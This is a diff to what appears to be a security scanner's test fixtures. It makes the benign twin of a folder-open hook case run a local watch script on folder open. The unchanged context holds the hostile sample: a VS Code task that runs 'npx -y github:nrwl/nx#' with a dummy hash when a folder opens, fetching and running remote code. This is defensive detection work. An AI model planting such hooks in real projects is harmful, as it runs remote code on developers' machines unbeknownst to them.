@@ -11,7 +11,10 @@ export const EDITORS: readonly Replay[] = [
     base: {},
     attack: { '.vscode/tasks.json': task(`npx -y github:nrwl/nx#${'5'.repeat(40)}`, onOpen) },
     because: ['HIGH HOOK-FOLDER-OPEN'],
-    twin: { '.vscode/tasks.json': task('npm run build') },
+    twin: {
+      '.vscode/tasks.json': task('npm run watch', onOpen),
+      'package.json': json({ name: 'app', version: '1.0.0', scripts: { watch: 'tsc -w' } }),
+    },
   },
   {
     name: 'the worm of August 2026: a task that runs a font',
